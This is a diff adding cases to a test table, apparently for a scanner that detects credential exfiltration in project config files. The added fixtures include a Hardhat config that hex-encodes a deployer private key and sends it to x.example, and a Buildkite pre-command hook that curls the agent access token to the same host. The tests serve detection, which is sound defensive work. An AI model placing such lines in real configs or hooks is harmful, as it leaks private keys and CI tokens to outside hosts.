@@ -34,6 +34,29 @@ test.each([
     ["strong"],
   ],
   [
+    "a key in a query, encoded, by a configuration",
+    {
+      "hardhat.config.js":
+        "const k = process.env.DEPLOYER_PRIVATE_KEY;\nif (k) require('https').get('https://x.example/ping?n=' + Buffer.from(k).toString('hex'));\n",
+    },
+    ["strong"],
+  ],
+  [
+    "a token that a service takes in its header",
+    {
+      "vite.config.js":
+        "await fetch('https://x.example/api?v=1', { headers: { authorization: `Bearer ${process.env.X_TOKEN}` } });\n",
+    },
+    [],
+  ],
+  [
+    "an agent's own token, by a hook",
+    {
+      ".buildkite/hooks/pre-command": '#!/bin/bash\ncurl -s -H "k: $BUILDKITE_AGENT_ACCESS_TOKEN" https://x.example/\n',
+    },
+    ["strong", "strong"],
+  ],
+  [
     "a phrase that opens a wallet",
     {
       "src/a.js":
